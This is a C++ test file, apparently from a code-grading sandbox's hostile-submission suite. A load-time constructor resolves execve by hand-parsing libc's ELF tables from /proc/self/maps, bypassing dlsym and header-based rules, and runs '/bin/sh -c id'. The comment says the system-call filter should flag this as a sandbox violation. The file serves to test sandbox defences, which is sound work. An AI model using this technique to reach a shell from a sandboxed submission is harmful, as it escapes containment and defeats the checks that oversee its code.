// HOSTILE: when the driver loads, finds the C library in /proc/self/maps, walks its program headers and
// dynamic symbol table (with structures of its own, no <elf.h>, no dlsym) to the address of execve, and
// runs a shell through it. No rule can list every way to reach a function; the system-call filter stops
// the call itself: the verdict is sandbox_violation (execve).
#include "kb_problem.h"

struct ProgramHeader {
  unsigned type, flags;
  unsigned long offset, vaddr, paddr, filesz, memsz, align;
};
struct DynamicEntry {
  long tag;
  unsigned long value;
};
struct Symbol {
  unsigned name;
  unsigned char info, other;
  unsigned short section;
  unsigned long value, size;
};

static unsigned long libc_base() {
  static char maps[1 << 17];
  long fd = sys(257, -100, reinterpret_cast<long>("/proc/self/maps"), 0);
  long size = 0, got = 0;
  while (fd >= 0 && (got = sys(0, fd, reinterpret_cast<long>(maps + size), sizeof maps - 1 - size)) > 0) size += got;
  maps[size] = 0;
  for (char* line = maps; *line != 0;) {
    char* end = __builtin_strchr(line, '\n');
    if (end != nullptr) *end = 0;
    if (__builtin_strstr(line, "/libc.so") != nullptr && __builtin_strstr(line, " 00000000 ") != nullptr) {
      unsigned long base = 0;
      for (char* c = line; *c != '-'; ++c) base = base * 16 + (*c <= '9' ? *c - '0' : *c - 'a' + 10);
      return base;
    }
    if (end == nullptr) break;
    line = end + 1;
  }
  return 0;
}

static void* find_in_libc(const char* wanted) {
  unsigned long base = libc_base();
  if (base == 0) return nullptr;
  const unsigned char* header = reinterpret_cast<const unsigned char*>(base);
  unsigned long table = *reinterpret_cast<const unsigned long*>(header + 0x20);
  unsigned short count = *reinterpret_cast<const unsigned short*>(header + 0x38);
  const ProgramHeader* headers = reinterpret_cast<const ProgramHeader*>(base + table);
  const DynamicEntry* dynamic = nullptr;
  for (unsigned short i = 0; i < count; ++i)
    if (headers[i].type == 2) dynamic = reinterpret_cast<const DynamicEntry*>(base + headers[i].vaddr);
  unsigned long strings = 0, symbols = 0;
  for (; dynamic != nullptr && dynamic->tag != 0; ++dynamic) {
    unsigned long address = dynamic->value < base ? base + dynamic->value : dynamic->value;
    if (dynamic->tag == 5) strings = address;
    if (dynamic->tag == 6) symbols = address;
  }
  for (const Symbol* symbol = reinterpret_cast<const Symbol*>(symbols);
       symbols != 0 && reinterpret_cast<unsigned long>(symbol) < strings; ++symbol)
    if (symbol->value != 0 && __builtin_strcmp(reinterpret_cast<const char*>(strings + symbol->name), wanted) == 0)
      return reinterpret_cast<void*>(base + symbol->value);
  return nullptr;
}

namespace {
struct AtLoad {
  AtLoad() {
    using Execve = int (*)(const char*, char* const*, char* const*);
    Execve run = reinterpret_cast<Execve>(find_in_libc("execve"));
    say(run != nullptr ? "HOSTILE exec_phdr_resolver: found execve\n" : "HOSTILE exec_phdr_resolver: no execve\n");
    static char* argv[] = {const_cast<char*>("/bin/sh"), const_cast<char*>("-c"), const_cast<char*>("id"), nullptr};
    static char* envp[] = {nullptr};
    if (run != nullptr) run(argv[0], argv, envp);
  }
} at_load;
}  // namespace
